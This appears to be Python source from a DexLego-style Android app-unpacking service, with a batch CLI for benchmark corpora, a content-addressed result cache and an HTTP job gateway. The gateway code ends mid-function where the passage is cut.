from repro.core.exploration import ALL_STRATEGIES, STRATEGY_BFS
from repro.service.batch import BACKENDS, BatchRevealService, RevealJob
from repro.service.outcomes import STATUS_ERROR, STATUS_VERIFY_FAILED

CORPORA = ("fdroid", "aosp", "launch", "packed", "droidbench")


def build_corpus_jobs(corpus: str, limit: int | None = None) -> list[RevealJob]:
    """Materialise one named benchsuite corpus as reveal jobs."""
    jobs: list[RevealJob] = []
    if corpus == "fdroid":
        from repro.benchsuite import all_fdroid_apps

        jobs = [RevealJob(app.package, app.apk) for app in all_fdroid_apps()]
    elif corpus == "aosp":
        from repro.benchsuite import all_aosp_apps

        jobs = [RevealJob(app.name, app.apk) for app in all_aosp_apps()]
    elif corpus == "launch":
        from repro.benchsuite import all_launch_apps

        jobs = [RevealJob(app.package, app.apk) for app in all_launch_apps()]
    elif corpus == "packed":
        from repro.benchsuite import all_market_apps

        jobs = [RevealJob(app.package, app.packed_apk)
                for app in all_market_apps()]
    elif corpus == "droidbench":
        from repro.benchsuite import droidbench_samples

        jobs = [
            RevealJob(sample.name, sample.build_apk(), device=sample.device)
            for sample in droidbench_samples()
        ]
    else:
        raise ValueError(f"unknown corpus {corpus!r}; pick one of {CORPORA}")
    if limit is not None:
        jobs = jobs[:limit]
    return jobs


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m repro.service",
        description="Corpus-scale DexLego: parallel, cached batch reveal.",
    )
    sub = parser.add_subparsers(dest="command")
    batch = sub.add_parser(
        "reveal-batch",
        help="reveal a benchsuite corpus through the batch service",
    )
    batch.add_argument("--corpus", choices=CORPORA, default="fdroid",
                       help="which benchsuite corpus to reveal")
    batch.add_argument("--limit", type=int, default=None,
                       help="cap the corpus at the first N apps")
    batch.add_argument("--workers", type=int, default=2,
                       help="worker-pool size (default: 2)")
    batch.add_argument("--backend", choices=BACKENDS, default="thread",
                       help="pool flavour (default: thread)")
    batch.add_argument("--cache-dir", default=None,
                       help="persistent result-cache directory")
    batch.add_argument("--force-execution", action="store_true",
                       help="enable the code coverage improvement module")
    batch.add_argument("--budget", type=int, default=2_000_000,
                       help="interpreter step budget per run")
    batch.add_argument("--strategy", choices=ALL_STRATEGIES,
                       default=STRATEGY_BFS,
                       help="force-execution frontier order "
                            "(default: bfs)")
    batch.add_argument("--max-paths", type=int, default=None,
                       help="total replay budget for force execution "
                            "(default: unbounded)")
    batch.add_argument("--path-budget", type=int, default=None,
                       help="interpreter step budget per replay "
                            "(default: same as --budget)")
    batch.add_argument("--explore-workers", type=int, default=1,
                       help="thread-pool width for replaying one wave of "
                            "path files (default: 1)")
    batch.add_argument("--json", action="store_true",
                       help="emit machine-readable JSON instead of tables")
    reasm = sub.add_parser(
        "reassemble",
        help="offline reassembly over saved collection files (no drive)",
    )
    reasm.add_argument("archive",
                       help="directory of collection files saved by the "
                            "collect stage (class_data.json, bytecode.json, ...)")
    reasm.add_argument("--out", default=None,
                       help="path for the emitted DEX "
                            "(default: <archive>/reassembled.dex)")
    reasm.add_argument("--json", action="store_true",
                       help="emit machine-readable JSON instead of text")
    args = parser.parse_args(argv)

    if args.command is None:
        parser.print_help()
        return 2
    if args.command == "reassemble":
        return _run_reassemble(args)

    jobs = build_corpus_jobs(args.corpus, args.limit)
    try:
        service = BatchRevealService(
            use_force_execution=args.force_execution,
            run_budget=args.budget,
            exploration_strategy=args.strategy,
            max_paths=args.max_paths,
            path_budget=args.path_budget,
            explore_workers=args.explore_workers,
            workers=args.workers,
            backend=args.backend,
            cache_dir=args.cache_dir,
        )
    except OSError as exc:
        print(f"cannot use cache dir {args.cache_dir!r}: {exc}",
              file=sys.stderr)
        return 2
    report = service.reveal_batch(jobs)

    if args.json:
        print(json.dumps(
            {
                "corpus": args.corpus,
                "summary": report.summary(),
                "outcomes": [o.to_summary() for o in report.outcomes],
            },
            indent=2,
        ))
    else:
        # Deferred import: repro.harness imports this package back.
        from repro.harness.tables import human_size, render_table

        rows = [
            [
                o.app_id,
                o.status,
                "hit" if o.cache_hit else "miss",
                f"{o.latency_s * 1000:.1f}ms",
                human_size(o.dump_size_bytes),
                o.error[:60],
            ]
            for o in report.outcomes
        ]
        print(render_table(
            f"Batch reveal — {args.corpus} corpus",
            ["App", "Status", "Cache", "Latency", "Dump Size", "Detail"],
            rows,
        ))
        print()
        print(report.render())

    hard_failures = {STATUS_ERROR, STATUS_VERIFY_FAILED}
    return 1 if any(o.status in hard_failures for o in report.outcomes) else 0


def _run_reassemble(args) -> int:
    """The ``reassemble`` subcommand: archive dir → verified DEX file.

    Bad input never escapes as a traceback: a missing or unreadable
    archive directory, undecodable collection files
    (``UnicodeDecodeError`` is a ``ValueError``, not an ``OSError``)
    and stage-level reassembly failures all exit non-zero with a
    one-line diagnostic.
    """
    from repro.core import reveal_from_archive
    from repro.dex.writer import write_dex
    from repro.errors import StageError

    try:
        result = reveal_from_archive(args.archive)
    except OSError as exc:
        print(f"cannot read archive {args.archive!r}: {exc}", file=sys.stderr)
        return 2
    except ValueError as exc:
        print(f"corrupt archive {args.archive!r}: {exc}", file=sys.stderr)
        return 2
    except StageError as err:
        print(f"reassembly failed in the {err.stage} stage: {err.cause}",
              file=sys.stderr)
        return 1

    dex = result.reassembled_dex
    payload = write_dex(dex)
    out = args.out or os.path.join(args.archive, "reassembled.dex")
    try:
        with open(out, "wb") as fh:
            fh.write(payload)
    except OSError as exc:
        print(f"cannot write DEX to {out!r}: {exc}", file=sys.stderr)
        return 2

    summary = {
        "archive": args.archive,
        "out": out,
        "dex_size_bytes": len(payload),
        "classes": len(dex.class_defs),
        "archive_size_bytes": result.dump_size_bytes,
        "stage_timings": {
            stage: round(seconds, 6)
            for stage, seconds in result.stage_timings.items()
        },
    }
    if args.json:
        print(json.dumps(summary, indent=2))
    else:
        timings = " ".join(
            f"{stage}={seconds * 1000:.1f}ms"
            for stage, seconds in result.stage_timings.items()
        )
        print(f"reassembled {summary['classes']} classes "
              f"({summary['dex_size_bytes']} bytes) -> {out}")
        print(f"stages: {timings}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
