"""Content-addressed result cache for revealed applications.

Re-running a corpus is the common case — a new pipeline version, a new
downstream analysis, a crashed batch resumed — and reveal latency is
dominated by driving the app inside the instrumented runtime.  The cache
makes the second run nearly free: a record is keyed on *what was
analysed* (the APK's DEX payload) and *how* (the pipeline
configuration), so any byte-level change to either misses cleanly.

Key construction
----------------

``reveal_cache_key`` = SHA-256 over:

* each DEX file's serialised bytes (which embed the header's Adler-32
  checksum and SHA-1 signature, so this is "the APK dex checksum" in
  the strongest sense),
* the asset blobs and named native libraries (packers hide encrypted
  payloads in assets; two packed stubs can share identical DEX loaders),
* :meth:`RevealConfig.config_hash()
  <repro.core.config.RevealConfig.config_hash>` — the *sole*
  configuration input; ``DexLego``/``Pipeline`` instances are accepted
  and reduced to their ``RevealConfig``,
* an optional caller-supplied salt (used by jobs with custom drive
  callables, whose identity the cache cannot observe).

Backends
--------

:class:`RevealCache` stores records in memory by default, or under a
directory when constructed with ``directory=...``: each record is one
``<key>.json`` metadata file plus an optional ``<key>.apk`` sidecar with
the serialised revealed application.  The on-disk format is versioned;
unreadable or stale entries are treated as misses, never as errors.
"""

from __future__ import annotations

import hashlib
import json
import logging
import os
import threading
from typing import Callable

from repro import faults
from repro.core.config import RevealConfig
from repro.dex.writer import write_dex
from repro.runtime.apk import Apk
from repro.service.outcomes import CACHEABLE_STATUSES, RevealOutcome

CACHE_FORMAT_VERSION = 1

#: Keys every well-formed cache record carries; an on-disk entry missing
#: any of them (or that is not a JSON object at all) is corrupt.
REQUIRED_RECORD_KEYS = frozenset({"version", "app_id", "status"})

logger = logging.getLogger(__name__)


# ---------------------------------------------------------------------------
# Key construction
# ---------------------------------------------------------------------------


def as_reveal_config(config) -> RevealConfig:
    """Normalise a RevealConfig, DexLego or Pipeline to its config."""
    if isinstance(config, RevealConfig):
        return config
    inner = getattr(config, "config", None)
    if isinstance(inner, RevealConfig):
        return inner
    raise TypeError(
        f"expected RevealConfig (or an object carrying one), got "
        f"{type(config).__name__}"
    )


def apk_content_key(apk: Apk) -> str:
    """SHA-256 over the APK's executable content (DEX + assets + JNI)."""
    digest = hashlib.sha256()
    digest.update(apk.package.encode("utf-8"))
    for dex in apk.dex_files:
        payload = write_dex(dex)
        digest.update(len(payload).to_bytes(8, "little"))
        digest.update(payload)
    for path in sorted(apk.assets):
        data = apk.assets[path]
        digest.update(path.encode("utf-8"))
        digest.update(len(data).to_bytes(8, "little"))
        digest.update(data)
    for name in apk.native_libraries:
        digest.update(b"jni:" + name.encode("utf-8"))
    return digest.hexdigest()


def pipeline_config_fingerprint(config) -> dict:
    """The identity-relevant slice of a pipeline configuration.

    The whole device profile participates, not just its name: device
    state (IMEI, location, emulator-ness) feeds sources and
    emulator-detection branches, so two profiles sharing a name must
    not share reveal results.
    """
    return as_reveal_config(config).fingerprint()


def pipeline_config_key(config) -> str:
    return as_reveal_config(config).config_hash()


def reveal_cache_key(apk: Apk, config, salt: str = "") -> str:
    """Content-addressed key: dex checksum × ``config_hash()`` × salt."""
    digest = hashlib.sha256()
    digest.update(apk_content_key(apk).encode("ascii"))
    digest.update(as_reveal_config(config).config_hash().encode("ascii"))
    if salt:
        digest.update(salt.encode("utf-8"))
    return digest.hexdigest()


# ---------------------------------------------------------------------------
# Cache backends
# ---------------------------------------------------------------------------


class RevealCache:
    """Keyed store of :class:`RevealOutcome` records.

    In-memory when ``directory`` is ``None`` (the default — scoped to the
    service instance), on-disk otherwise (shared across runs and
    processes).  Only deterministic statuses (:data:`CACHEABLE_STATUSES`)
    are admitted; everything else is silently skipped so transient
    failures are retried on the next run.
    """

    def __init__(self, directory: str | None = None) -> None:
        self.directory = directory
        self._memory: dict[str, dict] = {}
        # The in-memory store is mutated from thread-pool workers
        # (reveal_batch, the reveal server); every read/write of
        # ``_memory`` happens under this lock.
        self._lock = threading.Lock()
        # key -> Event set when the in-flight computation for that key
        # finishes (see get_or_compute).
        self._inflight: dict[str, threading.Event] = {}
        # Corrupt on-disk entries are misses; warn about the first one
        # only, so a directory full of damage doesn't flood the log —
        # but count every one, so a sweep can report what was skipped.
        self.corrupt_entries = 0
        #: Failed disk stores (cache writes degrade, they never fail a
        #: reveal); the first one logs a warning.
        self.write_failures = 0
        if directory is not None:
            os.makedirs(directory, exist_ok=True)

    # -- write --------------------------------------------------------------

    def put(self, key: str, outcome: RevealOutcome) -> bool:
        """Store one outcome; returns True when admitted."""
        if outcome.status not in CACHEABLE_STATUSES:
            return False
        apk_bytes = outcome.revealed_apk_bytes
        if apk_bytes is None and outcome.result is not None:
            revealed = outcome.result.revealed_apk
            apk_bytes = revealed.to_bytes() if revealed is not None else None
        record = {
            "version": CACHE_FORMAT_VERSION,
            "app_id": outcome.app_id,
            "status": outcome.status,
            "latency_s": outcome.latency_s,
            "dump_size_bytes": outcome.dump_size_bytes,
            # Copied so the memory backend never aliases live outcome
            # dicts (the disk backend is isolated by the JSON trip).
            "collector_stats": dict(outcome.collector_stats),
            "error": outcome.error,
            "stage_timings": dict(outcome.stage_timings),
            "exploration": dict(outcome.exploration),
            "index_stats": dict(outcome.index_stats),
        }
        if self.directory is None:
            record["apk_bytes"] = apk_bytes
            with self._lock:
                self._memory[key] = record
            return True
        try:
            if apk_bytes is not None:
                # The sidecar lands first and the metadata write is
                # atomic, so a crash between the two leaves an orphan
                # .apk (ignored by every read path), never a record
                # pointing at nothing.
                faults.atomic_write_bytes(self._apk_path(key), apk_bytes,
                                          site="cache.write")
                record["has_apk"] = True
            faults.atomic_write_json(self._json_path(key), record,
                                     site="cache.write")
        except OSError:
            # The cache is an optional subsystem: a failed store costs
            # a future recompute, never this reveal.
            self.write_failures += 1
            if self.write_failures == 1:
                logger.warning(
                    "reveal cache write failed for %s; continuing "
                    "uncached", key)
            if "cache" not in outcome.degraded:
                outcome.degraded.append("cache")
            return False
        return True

    # -- read ---------------------------------------------------------------

    def get(self, key: str) -> RevealOutcome | None:
        """Look up one record; any malformed entry is a miss."""
        record = self._load(key)
        if record is None or record.get("version") != CACHE_FORMAT_VERSION:
            return None
        return RevealOutcome(
            app_id=record["app_id"],
            status=record["status"],
            cache_hit=True,
            latency_s=record.get("latency_s", 0.0),
            dump_size_bytes=record.get("dump_size_bytes", 0),
            collector_stats=dict(record.get("collector_stats", {})),
            error=record.get("error", ""),
            cache_key=key,
            revealed_apk_bytes=record.get("apk_bytes"),
            stage_timings=dict(record.get("stage_timings", {})),
            exploration=dict(record.get("exploration", {})),
            index_stats=dict(record.get("index_stats", {})),
        )

    def __contains__(self, key: str) -> bool:
        return self._load(key) is not None

    def __len__(self) -> int:
        if self.directory is None:
            with self._lock:
                return len(self._memory)
        return sum(1 for name in os.listdir(self.directory)
                   if name.endswith(".json"))

    def get_or_compute(
        self,
        key: str,
        compute: Callable[[], RevealOutcome],
    ) -> tuple[RevealOutcome, bool]:
        """One reveal per key under concurrency: ``(outcome, hit)``.

        A miss elects the calling thread *leader* for the key: it runs
        ``compute()``, stores the result (subject to the usual
        :data:`CACHEABLE_STATUSES` admission) and releases the key.
        Concurrent callers with the same key block until the leader
        finishes, then re-check the cache — a hit if the leader's
        outcome was admitted, otherwise they recompute themselves (a
        transient ``error`` must not be replicated to every waiter).
        An empty key (uncacheable job) computes directly.
        """
        if not key:
            return compute(), False
        while True:
            cached = self.get(key)
            if cached is not None:
                return cached, True
            with self._lock:
                waiter = self._inflight.get(key)
                if waiter is None:
                    self._inflight[key] = threading.Event()
                    break
            waiter.wait()
        try:
            # Leadership won — but a previous leader may have finished
            # (stored and released the key) between this thread's cache
            # probe and the lock; re-check before paying for a reveal.
            cached = self.get(key)
            if cached is not None:
                return cached, True
            outcome = compute()
            self.put(key, outcome)
            return outcome, False
        finally:
            with self._lock:
                event = self._inflight.pop(key, None)
            if event is not None:
                event.set()

    def _load(self, key: str) -> dict | None:
        if self.directory is None:
            with self._lock:
                return self._memory.get(key)
        try:
            faults.check("cache.read")
            with open(self._json_path(key), encoding="utf-8") as fh:
                record = json.load(fh)
        except OSError:
            return None  # absent entry (or unreadable disk): a miss
        except ValueError:
            # Truncated write, disk damage, editor mishap — a corrupt
            # entry must read as a miss, never crash the batch.
            self._note_corrupt(key)
            return None
        if not isinstance(record, dict) \
                or not REQUIRED_RECORD_KEYS <= record.keys():
            self._note_corrupt(key)
            return None
        if record.get("has_apk"):
            try:
                with open(self._apk_path(key), "rb") as fh:
                    record["apk_bytes"] = fh.read()
            except OSError:
                return None
        return record

    def _note_corrupt(self, key: str) -> None:
        self.corrupt_entries += 1
        if self.corrupt_entries > 1:
            return
        logger.warning(
            "reveal cache entry %s is corrupt; treating it (and any "
            "further corrupt entries) as misses", self._json_path(key)
        )

    def _json_path(self, key: str) -> str:
        return os.path.join(self.directory, f"{key}.json")

    def _apk_path(self, key: str) -> str:
        return os.path.join(self.directory, f"{key}.apk")
