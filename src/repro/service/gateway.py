"""RevealGateway: the HTTP front door for DexLego-as-a-service.

Everything the service layer grew — the journal, priority lanes, the
event stream, the worker fleet, content-addressed artifacts — becomes
reachable from *outside the process* here, over plain HTTP/1.1 served
by the stdlib's ``ThreadingHTTPServer`` (no web framework, matching
the repo's no-new-dependencies rule):

``POST /v1/jobs``
    Submit an APK for revealing.  Raw APK bytes (``X-Reveal-App-Id``
    and ``X-Reveal-Priority`` headers) or a JSON envelope
    (``{"app_id", "apk_b64", "priority", "collect_only",
    "cache_salt", "meta"}``).  Returns ``201`` with the job id.  An
    ``Idempotency-Key`` header makes retries safe: the same key
    returns the original job (``200``, ``"deduplicated": true``)
    instead of enqueuing a duplicate.
``GET /v1/jobs/<id>``
    The job's :meth:`~repro.service.jobs.JobHandle.to_dict` digest —
    the same wire shape the ``status`` CLI prints.
``GET /v1/jobs/<id>/events``
    The job's event stream as NDJSON.  ``?follow=1`` switches to
    chunked transfer and tails the journal live until the job's
    terminal event (or ``?timeout=`` seconds).
``POST /v1/jobs/<id>/cancel``
    Queued jobs cancel immediately; running ones get the cancel flag
    their worker observes at its next heartbeat.
``GET /v1/artifacts/<digest>``
    Revealed DEX / repacked APK / collection zip by content digest.
``GET /v1/stats`` / ``GET /v1/healthz``
    Fleet dashboard (state counts, live worker leases, artifact store
    totals) and a liveness probe.

Multi-tenancy is token-scoped: construct with ``tenants`` (a
``token -> tenant name`` map) and every request must carry
``Authorization: Bearer <token>`` (else ``401``).  Two throttles guard
the queue — a sliding-window request rate limit (``429`` with
``Retry-After``) and a per-tenant cap on jobs simultaneously queued or
running (``429``).  Uploads over ``max_upload_bytes`` get ``413``.

The gateway never runs a pipeline itself: it appends queued records
that :class:`~repro.service.worker.RevealWorker` processes lease and
reveal, or that an in-process ``serve`` loop adopts via
``sync_store``.  That asymmetry is the scaling story: front ends and
workers scale independently, coordinated only by the store directory.
"""

from __future__ import annotations

import base64
import collections
import hashlib
import json
import os
import socket
import threading
import time
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlparse

from repro import faults
from repro.runtime.apk import Apk
from repro.service.artifacts import ArtifactStore, is_artifact_digest
from repro.service.events import (
    EVENT_SUBMITTED,
    TERMINAL_EVENTS,
    EventBus,
    event_to_frame,
)
from repro.service.jobs import (
    PRIORITY_NORMAL,
    JobHandle,
    JobState,
    JobStore,
    resolve_priority,
)

#: Default cap on one uploaded APK (bytes).  Generous for the corpus
#: apps this repo builds, small enough that a confused client cannot
#: buffer the gateway into the ground.
MAX_UPLOAD_BYTES_DEFAULT = 64 * 1024 * 1024

#: ``?follow=1`` tails stop after this many seconds without a terminal
#: event unless the client asked for a different ``?timeout=``.
FOLLOW_TIMEOUT_DEFAULT_S = 30.0


class _RateLimiter:
    """Sliding-window request limiter, one window per identity."""

    def __init__(self, limit: int, window_s: float = 60.0) -> None:
        self.limit = limit
        self.window_s = window_s
        self._lock = threading.Lock()
        self._hits: dict[str, collections.deque] = {}

    def allow(self, identity: str, now: float | None = None
              ) -> tuple[bool, float]:
        """``(allowed, retry_after_s)`` for one request."""
        now = time.time() if now is None else now
        with self._lock:
            hits = self._hits.setdefault(identity, collections.deque())
            horizon = now - self.window_s
            while hits and hits[0] <= horizon:
                hits.popleft()
            if len(hits) >= self.limit:
                return False, max(0.0, hits[0] + self.window_s - now)
            hits.append(now)
            return True, 0.0


class RevealGateway:
    """The HTTP server object: construct, :meth:`start`, submit over
    HTTP, :meth:`close`.

    ``port=0`` binds an ephemeral port (tests); read :attr:`url` after
    :meth:`start`.  ``tenants`` maps bearer tokens to tenant names;
    ``None`` serves anonymously.  ``rate_limit_per_min`` and
    ``max_active_per_tenant`` are off (``None``) by default.
    """

    def __init__(
        self,
        store: JobStore | str,
        *,
        host: str = "127.0.0.1",
        port: int = 0,
        artifact_store: ArtifactStore | str | None = None,
        tenants: dict[str, str] | None = None,
        rate_limit_per_min: int | None = None,
        max_active_per_tenant: int | None = None,
        max_upload_bytes: int = MAX_UPLOAD_BYTES_DEFAULT,
    ) -> None:
        self.store = JobStore(store) if isinstance(store, str) else store
        if artifact_store is None:
            artifact_store = os.path.join(self.store.path, "artifacts")
        self.artifacts = (ArtifactStore(artifact_store)
                          if isinstance(artifact_store, str)
                          else artifact_store)
        self.tenants = dict(tenants) if tenants else None
        self.max_active_per_tenant = max_active_per_tenant
        self.max_upload_bytes = max_upload_bytes
        self._limiter = (None if rate_limit_per_min is None
                         else _RateLimiter(rate_limit_per_min))
        self._idempotency_dir = os.path.join(self.store.path, "idempotency")
        os.makedirs(self._idempotency_dir, exist_ok=True)
        self.bus = EventBus()
        store_ref = self.store
        self.bus.add_observer(
            lambda event: store_ref.append_event(event.to_dict()))
        self._host = host
        self._port = port
        self._httpd: ThreadingHTTPServer | None = None
        self._thread: threading.Thread | None = None
        self.started_at = time.time()

    # -- lifecycle ----------------------------------------------------------

    def start(self) -> "RevealGateway":
        if self._httpd is not None:
            return self
        gateway = self

        class Handler(_GatewayHandler):
            pass

        Handler.gateway = gateway
        self._httpd = ThreadingHTTPServer((self._host, self._port), Handler)
        self._httpd.daemon_threads = True
        self._thread = threading.Thread(
            target=self._httpd.serve_forever,
            name="reveal-gateway", daemon=True)
        self._thread.start()
        return self

    def __enter__(self) -> "RevealGateway":
        return self.start()

    def __exit__(self, exc_type, exc, tb) -> None:
        self.close()

    def close(self) -> None:
        if self._httpd is None:
            return
        self._httpd.shutdown()
        self._httpd.server_close()
        if self._thread is not None:
            self._thread.join()
        self._httpd = None
        self._thread = None
        self.bus.close()

    @property
    def address(self) -> tuple[str, int]:
        if self._httpd is None:
            raise RuntimeError("gateway not started")
        return self._httpd.server_address[:2]

    @property
    def url(self) -> str:
        host, port = self.address
        return f"http://{host}:{port}"

    # -- request-side helpers (called from handler threads) -----------------

    def authenticate(self, header: str | None) -> str | None:
        """Tenant name for one ``Authorization`` header; ``None`` means
        rejected.  Anonymous gateways accept everything as ``""``."""
        if self.tenants is None:
            return ""
        if not header or not header.startswith("Bearer "):
            return None
        return self.tenants.get(header[len("Bearer "):].strip())

    def throttle(self, tenant: str) -> tuple[bool, float]:
        if self._limiter is None:
            return True, 0.0
        return self._limiter.allow(tenant or "anonymous")

    def active_jobs(self, tenant: str) -> int:
        """Queued-or-running records submitted by one tenant."""
        count = 0
        for record in self.store.load_all():
            if record.get("state") not in (JobState.QUEUED,
                                           JobState.RUNNING):
                continue
            if (record.get("meta") or {}).get("tenant", "") == tenant:
                count += 1
        return count

    def submit_record(self, *, app_id: str, apk: Apk, priority: int,
                      collect_only: bool, cache_salt: str,
                      meta: dict) -> dict:
        """Append one queued record and announce it on the stream."""
        job_id = f"job-{uuid.uuid4().hex[:10]}"
        record = self.store.make_record(
            job_id=job_id, app_id=app_id, apk=apk, priority=priority,
            collect_only=collect_only, cache_salt=cache_salt,
            metadata=meta,
        )
        self.store.save(record)
        self.bus.publish(EVENT_SUBMITTED, job_id, app_id,
                         payload={"priority": priority,
                                  "tenant": meta.get("tenant", "")})
        return record

    def idempotent_job_id(self, tenant: str, key: str) -> str | None:
        """The job id a prior submit stored under this key, if any."""
        try:
            with open(self._idempotency_path(tenant, key),
                      encoding="utf-8") as fh:
                return fh.read().strip() or None
        except OSError:
            return None

    def remember_idempotency(self, tenant: str, key: str,
                             job_id: str) -> None:
        path = self._idempotency_path(tenant, key)
        tmp = f"{path}.{os.getpid()}.tmp"
        try:
            with open(tmp, "w", encoding="utf-8") as fh:
                fh.write(job_id)
            os.replace(tmp, path)
        except OSError:
            pass  # dedup is best-effort; the job itself is journalled

    def _idempotency_path(self, tenant: str, key: str) -> str:
        digest = hashlib.sha256(
            f"{tenant}\x00{key}".encode("utf-8")).hexdigest()
        return os.path.join(self._idempotency_dir, digest)

    def stats(self) -> dict:
        counts = {state: 0 for state in JobState.ALL}
        index = {"apps_indexed": 0, "bodies_emitted": 0,
                 "bodies_replayed": 0}
        cluster = {"apps_labeled": 0, "labels_assigned": 0}
        degraded: dict = {"reveals_degraded": 0, "by_subsystem": {}}
        for record in self.store.load_all():
            state = record.get("state")
            if state in counts:
                counts[state] += 1
            # Fleet-wide dedup and labeling rates, straight off the
            # outcome digests — operators should not need to read job
            # stores to see whether the index/cluster dirs are earning
            # their keep.
            outcome = record.get("outcome") or {}
            index_stats = outcome.get("index_stats") or {}
            if index_stats:
                index["apps_indexed"] += 1
                index["bodies_emitted"] += index_stats.get(
                    "bodies_emitted", 0)
                index["bodies_replayed"] += index_stats.get(
                    "bodies_replayed", 0)
            cluster_stats = outcome.get("cluster_stats") or {}
            if cluster_stats:
                cluster["apps_labeled"] += 1
                cluster["labels_assigned"] += cluster_stats.get(
                    "labels_assigned", 0)
            # Degradation visibility: reveals that completed while
            # bypassing a broken optional subsystem, per subsystem —
            # the dashboard signal that an index/cluster/cache dir
            # needs operator attention even though jobs still succeed.
            subsystems = outcome.get("degraded") or []
            if subsystems:
                degraded["reveals_degraded"] += 1
                for name in subsystems:
                    degraded["by_subsystem"][name] = \
                        degraded["by_subsystem"].get(name, 0) + 1
        return {
            "jobs": counts,
            "workers": self.store.worker_leases(),
            "artifacts": self.artifacts.stats(),
            "index": index,
            "cluster": cluster,
            "degraded": degraded,
            "store": {
                "corrupt_records": self.store.corrupt_records,
                "corrupt_event_lines": self.store.corrupt_event_lines,
            },
            "uptime_s": round(time.time() - self.started_at, 3),
            "tenants": (sorted(set(self.tenants.values()))
                        if self.tenants else []),
        }


class _GatewayHandler(BaseHTTPRequestHandler):
    """Route table for one connection; ``gateway`` is injected by
    :meth:`RevealGateway.start` on a per-gateway subclass."""

    gateway: RevealGateway
    protocol_version = "HTTP/1.1"
    server_version = "RevealGateway/1"

    # -- plumbing ------------------------------------------------------------

    def log_message(self, format, *args):  # noqa: A002 (stdlib signature)
        pass  # request logging is the caller's job, not stderr's

    def _send_json(self, code: int, payload: dict,
                   headers: dict | None = None) -> None:
        body = json.dumps(payload).encode("utf-8")
        self.send_response(code)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def _error(self, code: int, message: str,
               headers: dict | None = None) -> None:
        self._send_json(code, {"error": message}, headers)

    def _tenant(self) -> str | None:
        tenant = self.gateway.authenticate(
            self.headers.get("Authorization"))
        if tenant is None:
            self._error(401, "missing or unknown bearer token")
        return tenant

    def _inject_fault(self) -> bool:
        """Chaos hook: apply one armed ``gateway.request`` fault at the
        HTTP boundary.  ``True`` means the request was consumed (the
        client saw a 5xx or a dead socket and is expected to retry);
        delays fall through to normal handling."""
        rule = faults.decide("gateway.request")
        if rule is None:
            return False
        if rule.kind == faults.FAULT_DELAY:
            time.sleep(rule.delay_s)
            return False
        if rule.kind == faults.FAULT_HTTP_500:
            self._error(500, "injected fault")
            return True
        # Connection reset: drop the socket without any response.
        self.close_connection = True
        try:
            self.connection.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        return True

    def _read_body(self) -> bytes | None:
        try:
            length = int(self.headers.get("Content-Length", "0"))
        except ValueError:
            self._error(400, "bad Content-Length")
            return None
        if length <= 0:
            self._error(400, "empty body")
            return None
        if length > self.gateway.max_upload_bytes:
            self._error(413, f"upload over {self.gateway.max_upload_bytes}"
                             f" bytes")
            return None
        return self.rfile.read(length)

    # -- routing -------------------------------------------------------------

    def do_GET(self) -> None:  # noqa: N802 (stdlib casing)
        if self._inject_fault():
            return
        parsed = urlparse(self.path)
        parts = [p for p in parsed.path.split("/") if p]
        query = parse_qs(parsed.query)
        if parts == ["v1", "healthz"]:
            self._send_json(200, {"ok": True})
            return
        tenant = self._tenant()
        if tenant is None:
            return
        if parts == ["v1", "stats"]:
            self._send_json(200, self.gateway.stats())
        elif len(parts) == 3 and parts[:2] == ["v1", "jobs"]:
            self._get_job(parts[2])
        elif (len(parts) == 4 and parts[:2] == ["v1", "jobs"]
                and parts[3] == "events"):
            self._get_events(parts[2], query)
        elif len(parts) == 3 and parts[:2] == ["v1", "artifacts"]:
            self._get_artifact(parts[2])
        else:
            self._error(404, f"no route for GET {parsed.path}")

    def do_POST(self) -> None:  # noqa: N802 (stdlib casing)
        if self._inject_fault():
            return
        parsed = urlparse(self.path)
        parts = [p for p in parsed.path.split("/") if p]
        tenant = self._tenant()
        if tenant is None:
            return
        allowed, retry_after = self.gateway.throttle(tenant)
        if not allowed:
            self._error(429, "rate limit exceeded",
                        headers={"Retry-After": str(int(retry_after) + 1)})
            return
        if parts == ["v1", "jobs"]:
            self._post_job(tenant)
        elif (len(parts) == 4 and parts[:2] == ["v1", "jobs"]
                and parts[3] == "cancel"):
            self._post_cancel(parts[2])
        else:
            self._error(404, f"no route for POST {parsed.path}")

    # -- handlers ------------------------------------------------------------

    def _post_job(self, tenant: str) -> None:
        gateway = self.gateway
        idem_key = (self.headers.get("Idempotency-Key") or "").strip()
        if idem_key:
            prior = gateway.idempotent_job_id(tenant, idem_key)
            if prior is not None and gateway.store.load(prior) is not None:
                self._send_json(200, {"job_id": prior,
                                      "deduplicated": True})
                return
        if gateway.max_active_per_tenant is not None \
                and gateway.active_jobs(tenant) \
                >= gateway.max_active_per_tenant:
            self._error(429, f"tenant quota: "
                             f"{gateway.max_active_per_tenant} active jobs")
            return
        body = self._read_body()
        if body is None:
            return
        content_type = (self.headers.get("Content-Type") or "").lower()
        meta: dict = {}
        collect_only = False
        cache_salt = ""
        if "json" in content_type:
            try:
                envelope = json.loads(body.decode("utf-8"))
            except ValueError:
                self._error(400, "undecodable JSON envelope")
                return
            if not isinstance(envelope, dict):
                self._error(400, "envelope must be a JSON object")
                return
            app_id = envelope.get("app_id", "")
            try:
                apk_bytes = base64.b64decode(envelope["apk_b64"])
            except Exception:
                self._error(400, "envelope carries no decodable apk_b64")
                return
            priority_raw = envelope.get("priority", PRIORITY_NORMAL)
            collect_only = bool(envelope.get("collect_only", False))
            cache_salt = str(envelope.get("cache_salt", ""))
            meta = dict(envelope.get("meta") or {})
        else:
            apk_bytes = body
            app_id = self.headers.get("X-Reveal-App-Id", "")
            priority_raw = self.headers.get("X-Reveal-Priority",
                                            PRIORITY_NORMAL)
        try:
            priority = resolve_priority(priority_raw)
        except ValueError as exc:
            self._error(400, str(exc))
            return
        try:
            apk = Apk.from_bytes(apk_bytes)
        except Exception:
            self._error(400, "body is not a serialised APK "
                             "(Apk.to_bytes format)")
            return
        app_id = app_id or apk.package or "app"
        meta["tenant"] = tenant
        record = gateway.submit_record(
            app_id=app_id, apk=apk, priority=priority,
            collect_only=collect_only, cache_salt=cache_salt, meta=meta,
        )
        if idem_key:
            gateway.remember_idempotency(tenant, idem_key,
                                         record["job_id"])
        self._send_json(201, {
            "job_id": record["job_id"],
